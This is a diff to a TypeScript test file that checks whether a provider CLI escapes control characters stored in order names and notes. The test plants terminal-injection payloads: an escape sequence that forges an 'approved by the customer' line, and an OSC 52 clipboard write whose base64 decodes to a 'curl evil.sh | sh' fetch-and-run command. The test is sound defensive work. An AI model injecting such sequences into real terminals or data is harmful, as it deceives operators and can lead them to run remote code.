@@ -1,7 +1,8 @@
 import { unzipSync } from 'fflate';
 import { TokenResponse } from '@teamwear/shared/contracts';
+import { sql } from 'kysely';
 import { centsOf, runProviderCommand, UsageError } from '../src/cli/provider-commands';
-import { createTestApp, DEMO, registerUser, signIn, TENANT_ONE_HOST, type TestContext } from './helpers';
+import { createTestApp, DEMO, registerUser, signIn, TENANT_ONE_HOST, writeBehindTheApi, type TestContext } from './helpers';
 
 let ctx: TestContext;
 let orderNumber: number;
@@ -160,6 +161,33 @@ describe('npm run provider', () => {
     await expect(cli('orders', 'approve')).rejects.toThrow(/needs an order number/);
     const wrong = await runProviderCommand(['orders', 'list'], { url: 'http://localhost', ...DEMO.one.customer }, { fetch: fetchThroughApp, write: () => undefined });
     expect(wrong).toBe(1);
+  });
+
+  it('shows the escapes of names and notes stored before the API refused them, never sends them to the terminal', async () => {
+    // Rows written before control characters were refused: the issue's reproduction, put in with raw SQL.
+    const forged = 'Mean\u001b[2K\r  proof       approved by the customer';
+    const clipboard = 'x\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
+    const player = 'So\u202ekha\u009b2J';
+    await writeBehindTheApi(ctx.db, async () => {
+      await sql`update users set first_name = ${forged} where id = (select user_id from orders where id = ${orderId})`.execute(ctx.db);
+      await sql`update orders set note = ${clipboard}, snapshot = jsonb_set(snapshot, '{players,0,name}', to_jsonb(${player}::text)) where id = ${orderId}`.execute(ctx.db);
+    });
+    // eslint-disable-next-line no-control-regex -- looking for control characters is the test
+    const unprintable = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+    const show = await cli('orders', 'show', String(orderNumber));
+    expect(show.out).not.toMatch(unprintable);
+    expect(show.out).toContain('customer    Mean\\x1b[2K\\x0d  proof       approved by the customer');
+    expect(show.out).toContain('note        x\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
+    expect(show.out).toContain('So\\u202ekha\\x9b2J');
+    // One "proof" line, the real one: the forged one stays inside the customer's name.
+    expect(show.out.split('\n').filter((line) => /^\s*proof\s/.test(line))).toHaveLength(1);
+    const list = await cli('orders', 'list');
+    expect(list.out).not.toMatch(unprintable);
+    expect(list.out).toContain('Mean\\x1b[2K\\x0d  proof');
+    // --json stays the API's JSON, with C1 and bidi controls written as \u escapes too.
+    const json = await cli('orders', 'show', String(orderNumber), '--json');
+    expect(json.out).not.toMatch(unprintable);
+    expect(JSON.parse(json.out).data.players[0].name).toBe(player);
   });
 
   it('reads USD amounts into cents exactly', () => {
